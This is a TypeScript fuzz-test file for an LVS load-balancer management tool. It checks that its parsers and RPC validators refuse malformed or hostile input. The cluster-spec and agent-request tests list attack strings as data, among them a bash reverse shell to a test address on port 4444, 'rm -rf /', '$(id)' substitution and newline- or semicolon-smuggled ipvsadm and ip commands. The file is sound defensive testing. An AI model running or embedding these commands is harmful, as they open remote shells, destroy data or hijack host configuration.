import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { parseAgentOptions } from "@lvsfleet/agent-runtime";
import { parseIpAddr, parseIpLink, parseIpRoute, parseNftJson } from "@lvsfleet/hostops";
import { parseConnections, parseList, parseRestore, parseSave, SaveFormatError } from "@lvsfleet/ipvs";
import { parseKeepalivedText } from "@lvsfleet/keepalived";
import { ClusterSpec, parseEndpoint, parseSimTraffic, ValidationError, validate } from "@lvsfleet/model";
import { parseIdentityUri } from "@lvsfleet/pki/light";
import { applyRequestFromWire, GrpcStatus, RpcError, startRequestFromWire, stopRequestFromWire } from "@lvsfleet/rpc";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parseRoleMap, SLACK_ID } from "../../server/src/access/chat-roles.ts";
import { parseChatCommand } from "../../server/src/chat/parse.ts";
import { verifySlackSignature } from "../../server/src/chat/signature.ts";
import { parseSince } from "../../server/src/commands/audit.ts";
import { parseTarget } from "../../server/src/commands/weight.ts";

/**
 * Random strings at every parser: each either answers or refuses with its own, documented error
 * (one that says where and why) — never a TypeError, RangeError or a hang.
 */
const RUNS = { numRuns: 300 };
const golden = (dir: string) =>
  readdirSync(dir)
    .filter((f) => f.endsWith(".txt"))
    .map((f) => readFileSync(join(dir, f), "utf8"));
const ipvsSamples = golden(new URL("../../packages/ipvs/test/golden", import.meta.url).pathname);

/** A sample with random damage: characters inserted, deleted or replaced. */
function damaged(samples: string[]): fc.Arbitrary<string> {
  return fc
    .tuple(
      fc.constantFrom(...samples),
      fc.array(fc.tuple(fc.nat(), fc.nat(3), fc.string({ maxLength: 5 })), { maxLength: 6 }),
    )
    .map(([sample, edits]) =>
      edits.reduce((text, [at, del, ins]) => {
        const i = text.length ? at % text.length : 0;
        return text.slice(0, i) + ins + text.slice(i + del);
      }, sample),
    );
}

const text = (samples: string[] = []) =>
  samples.length
    ? fc.oneof(fc.string({ maxLength: 200 }), fc.string({ unit: "binary", maxLength: 100 }), damaged(samples))
    : fc.oneof(fc.string({ maxLength: 200 }), fc.string({ unit: "binary", maxLength: 100 }));

/** Runs `parse` and checks that it either returns or throws one of `allowed`. */
function survives(parse: () => unknown, ...allowed: ((e: unknown) => boolean)[]) {
  try {
    parse();
  } catch (error) {
    const ok = allowed.some((is) => is(error));
    if (!ok) throw new Error(`unexpected ${(error as Error)?.constructor?.name}: ${(error as Error)?.message}`);
  }
}

const isA = (type: new (...a: any[]) => Error) => (e: unknown) => e instanceof type;
const plainError = (e: unknown) =>
  e instanceof Error && !(e instanceof TypeError) && !(e instanceof RangeError) && (e as Error).message.length > 0;

describe("fuzz: every parser answers or refuses cleanly", () => {
  it("ipvsadm formats (-Sn, -R, -Ln, -Lnc) refuse with line and column", () => {
    fc.assert(
      fc.property(text(ipvsSamples), (t) => {
        for (const parse of [parseSave, parseRestore, parseList, parseConnections])
          survives(() => parse(t), isA(SaveFormatError));
      }),
      RUNS,
    );
  });

  it("keepalived.conf never throws: problems are diagnostics with file, line and column", () => {
    const samples = [
      readFileSync(new URL("../../packages/keepalived/test/fixtures/guide-keepalived.conf", import.meta.url), "utf8"),
    ];
    fc.assert(
      fc.property(text(samples), (t) => {
        const result = parseKeepalivedText(t, "fuzz.conf");
        for (const d of result.diagnostics) {
          expect(d.file).toBe("fuzz.conf");
          expect(d.line).toBeGreaterThan(0);
          expect(d.column).toBeGreaterThan(0);
          expect(d.message.length).toBeGreaterThan(0);
        }
      }),
      RUNS,
    );
  });

  it("cluster specs: any JSON value is accepted or refused field by field", () => {
    fc.assert(
      fc.property(fc.anything(), (value) => {
        survives(() => validate(ClusterSpec, value), isA(ValidationError));
      }),
      RUNS,
    );
  });

  it("cluster specs never carry a program: any path or command line in a script field is refused, naming it", () => {
    const base = {
      name: "web",
      vips: ["192.168.1.229"],
      directors: [{ host: "lb-master", address: "192.168.1.252", role: "master", priority: 100 }],
    };
    const service = (extra: object) => ({
      name: "http",
      address: "192.168.1.229",
      port: 80,
      realServers: [{ address: "192.168.1.220", port: 80 }],
      ...extra,
    });
    const places: [string, (command: string) => object][] = [
      [
        "services[0].realServers[0].healthChecks[0].path",
        (c) => ({
          services: [
            service({
              realServers: [{ address: "192.168.1.220", port: 80, healthChecks: [{ type: "misc", path: c }] }],
            }),
          ],
        }),
      ],
      [
        "services[0].realServers[0].healthChecks[0].script",
        (c) => ({
          services: [
            service({
              realServers: [{ address: "192.168.1.220", port: 80, healthChecks: [{ type: "misc", script: c }] }],
            }),
          ],
        }),
      ],
      ["services[0].quorum.up", (c) => ({ services: [service({ quorum: { weight: 1, up: c } })] })],
      ["services[0].quorum.down", (c) => ({ services: [service({ quorum: { weight: 1, down: c } })] })],
      ...(["master", "backup", "fault", "stop", "any"] as const).map((key): [string, (command: string) => object] => [
        `vrrp.instances[0].notify.${key}`,
        (c) => ({
          vrrp: { instances: [{ name: "VI_1", virtualRouterId: 51, vips: ["192.168.1.229"], notify: { [key]: c } }] },
        }),
      ]),
    ];
    // the attack inputs: programs, command lines, shell syntax, and random text with a slash or a blank
    const command = fc.oneof(
      fc.constantFrom(
        "/bin/touch /tmp/pwned",
        "/bin/sh -c 'id > /tmp/pwned'",
        "bash -i >& /dev/tcp/198.18.0.1/4444 0>&1",
        "../../bin/sh",
        "check-web; rm -rf /",
        "check-web $(id)",
        "check web",
        "/usr/local/bin/check.sh",
      ),
      fc
        .tuple(fc.string({ maxLength: 20 }), fc.constantFrom("/", " ", "\t", "\n"), fc.string({ maxLength: 20 }))
        .map(([a, sep, b]) => `${a}${sep}${b}`),
    );
    fc.assert(
      fc.property(fc.constantFrom(...places), command, ([field, place], c) => {
        let error: unknown;
        try {
          validate(ClusterSpec, { ...base, ...place(c) });
        } catch (e) {
          error = e;
        }
        expect(error).toBeInstanceOf(ValidationError);
        expect((error as ValidationError).errors.map((e) => e.field)).toContain(field);
      }),
      RUNS,
    );
  });

  it("endpoints, identities, chat commands, targets, times, role maps, traffic settings", () => {
    fc.assert(
      fc.property(text(), (t) => {
        expect(() => parseEndpoint(t)).not.toThrow();
        expect(() => parseIdentityUri(t)).not.toThrow();
        expect(parseChatCommand(t)).toHaveProperty("ok");
        survives(() => parseTarget(t, "server"), isA(ValidationError));
        survives(() => parseSince(t), isA(ValidationError));
        survives(() => parseRoleMap(t, "LVSFLEET_CHAT_USERS", SLACK_ID.user), plainError);
        survives(() => parseSimTraffic(t), isA(ValidationError));
        expect(verifySlackSignature("secret", { signature: t, timestamp: t }, t).ok).toBe(false);
      }),
      RUNS,
    );
  });

  it("iproute2 and nft JSON from the host refuse garbage with a plain error", () => {
    fc.assert(
      fc.property(fc.oneof(text(), fc.json()), (t) => {
        for (const parse of [parseIpAddr, parseIpLink, (s: string) => parseIpRoute(s), parseNftJson])
          survives(
            () => parse(t),
            plainError,
            (e) => e instanceof Error && e.name === "ZodError",
          );
      }),
      RUNS,
    );
  });

  it("agent command lines refuse unknown or bad options", () => {
    const word = fc.oneof(
      fc.constantFrom(
        "--host",
        "--listen",
        "--driver",
        "--server",
        "--address",
        "--ca-pin",
        "--insecure",
        "--metrics",
        "lb-master",
        "127.0.0.1:0",
      ),
      fc.string({ maxLength: 20 }),
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 8 }), (argv) => {
        survives(
          () => parseAgentOptions(argv),
          isA(ValidationError),
          (e) => String((e as { code?: string }).code ?? "").startsWith("ERR_PARSE_ARGS"),
        );
      }),
      RUNS,
    );
  });

  it("agent requests (Apply, Start, Stop): accepted without a token-breaking character, or refused naming the field", () => {
    // The attacks of test/e2e/agent-input.test.ts and their kin, mixed with valid values and random text.
    const ATTACKS = [
      "wrr\n-C",
      "1.2.3.4\n-D -t",
      "192.168.1.220\n-d -t 192.168.1.229:80 -r 192.168.1.231",
      '192.168.1.220" device "lo',
      "192.168.1.229 dev lo",
      "192.168.1.229/0",
      "sh-port -C",
      "sh-port;",
      "eth0\nip link del lo",
      "eth0;reboot",
      "eth0 }",
      "http}",
      "{",
      "}",
      "web\n",
      "gue\n-C",
      "\u0000",
      "\u2028",
      "a".repeat(300),
    ];
    const VALID = ["192.168.1.229", "2001:db8::1", "wrr", "sh", "sh-port", "eth0", "web", "gue", "csum", "TCP", "DR"];
    const str = fc.oneof(fc.constantFrom(...ATTACKS, ...VALID), fc.string({ maxLength: 20 }));
    const num = fc.oneof(fc.constantFrom(0, 1, 80, 65535, 65536, 2 ** 31, 2 ** 32 - 1), fc.nat());
    const wireEnum = (...names: string[]) => fc.oneof(fc.constantFrom(...names), fc.nat(9), str);
    const destination = fc.record({
      address: str,
      port: num,
      forwarding: wireEnum("DR", "NAT", "TUN", "FORWARDING_UNSPECIFIED"),
      weight: num,
      upperThreshold: num,
      lowerThreshold: num,
      activeConns: num,
      inactConns: num,
      persistConns: num,
      tunnel: fc.option(fc.record({ type: str, port: num, checksum: str }), { nil: null }),
    });
    const service = fc.record({
      protocol: wireEnum("TCP", "UDP", "SCTP", "FWMARK", "PROTOCOL_UNSPECIFIED"),
      address: str,
      port: num,
      fwmark: num,
      family: wireEnum("INET", "INET6", "FAMILY_UNSPECIFIED"),
      scheduler: str,
      schedulerFlags: fc.array(str, { maxLength: 2 }),
      persistence: fc.option(fc.record({ timeout: num, netmask: num }), { nil: null }),
      destinations: fc.array(destination, { maxLength: 3 }),
      onePacket: fc.boolean(),
    });
    const table = fc.option(fc.record({ services: fc.array(service, { maxLength: 3 }) }), { nil: null });
    const specJson = fc.oneof(fc.constant(""), str, fc.json());
    const apply = fc.record({ cluster: str, generation: num, desired: table, dryRun: fc.boolean(), specJson });
    const start = fc.record({
      cluster: str,
      director: fc.option(
        fc.record({ vips: fc.array(str, { maxLength: 3 }), interface: str, desired: table, generation: num, specJson }),
        { nil: null },
      ),
      realServer: fc.option(
        fc.record({
          vips: fc.array(
            fc.record({ address: str, forwarding: fc.array(wireEnum("DR", "NAT", "TUN"), { maxLength: 2 }) }),
            { maxLength: 3 },
          ),
          natGateway: str,
        }),
        { nil: null },
      ),
    });
    /** Every string the agent would render (the spec aside: it is a ClusterSpec, checked on its own). */
    const strings = (value: unknown): string[] =>
      typeof value === "string"
        ? [value]
        : Array.isArray(value)
          ? value.flatMap(strings)
          : value && typeof value === "object"
            ? Object.entries(value).flatMap(([k, v]) => (k === "spec" ? [] : strings(v)))
            : [];
    const answers = (handle: () => unknown) => {
      let accepted: unknown;
      try {
        accepted = handle();
      } catch (error) {
        if (!(error instanceof RpcError)) throw error;
        expect(error.code).toBe(GrpcStatus.INVALID_ARGUMENT);
        expect(error.message).toMatch(
          /^([a-z_]+(\[\d+\])*(\.[a-z_]+(\[\d+\])*)*(: spec[a-zA-Z0-9_.[\]]*)?: .|start needs a director or real_server config)/,
        );
        expect(error.message.length).toBeLessThanOrEqual(1_000);
        return;
      }
      for (const text of strings(accepted)) expect(text).toMatch(/^[A-Za-z0-9.:_-]*$/);
    };
    // a valid Apply with one field replaced: often accepted (a valid value), so what passes is checked too
    const validService = {
      protocol: "TCP",
      address: "192.168.1.229",
      port: 80,
      fwmark: 0,
      family: "INET",
      scheduler: "wrr",
      schedulerFlags: [] as string[],
      persistence: { timeout: 60, netmask: 32 },
      onePacket: false,
      destinations: [
        { address: "192.168.1.220", port: 80, forwarding: "DR", weight: 3, upperThreshold: 0, lowerThreshold: 0 },
      ],
    };
    const mutated = fc
      .tuple(
        fc.constantFrom("address", "scheduler", "schedulerFlags", "destination.address", "destination.forwarding"),
        str,
      )
      .map(([field, value]) => {
        const service = structuredClone(validService) as Record<string, unknown> & typeof validService;
        if (field === "schedulerFlags") service.schedulerFlags = [value];
        else if (field.startsWith("destination."))
          Object.assign(service.destinations[0]!, { [field.slice(12)]: value });
        else Object.assign(service, { [field]: value });
        return { cluster: "web", generation: 1, desired: { services: [service] }, dryRun: false };
      });
    fc.assert(
      fc.property(apply, start, str, mutated, (a, s, cluster, m) => {
        answers(() => applyRequestFromWire(a as never));
        answers(() => startRequestFromWire(s as never));
        answers(() => stopRequestFromWire({ cluster }));
        answers(() => applyRequestFromWire(m as never));
      }),
      RUNS,
    );
    expect(() =>
      applyRequestFromWire({
        cluster: "web",
        generation: 1,
        desired: { services: [validService] },
        dryRun: false,
      } as never),
    ).not.toThrow();
    // and the attacks one by one, in every string field of a valid Apply and Start
    for (const attack of ATTACKS) {
      const base = { protocol: "TCP", address: "192.168.1.229", port: 80, fwmark: 0, family: "INET" };
      const svc = { ...base, scheduler: "wrr", schedulerFlags: [], persistence: null, destinations: [] };
      for (const bad of [
        { ...svc, address: attack },
        { ...svc, scheduler: attack },
        { ...svc, schedulerFlags: [attack] },
      ])
        expect(() =>
          applyRequestFromWire({ cluster: "web", generation: 1, desired: { services: [bad] }, dryRun: false } as never),
        ).toThrow(RpcError);
      const director = {
        vips: ["192.168.1.229"],
        interface: "eth0",
        desired: { services: [svc] },
        generation: 1,
        specJson: "",
      };
      for (const bad of [
        { ...director, interface: attack },
        { ...director, vips: [attack] },
      ])
        expect(() => startRequestFromWire({ cluster: "web", director: bad } as never)).toThrow(RpcError);
      expect(() => stopRequestFromWire({ cluster: attack })).toThrow(RpcError);
    }
  });
});
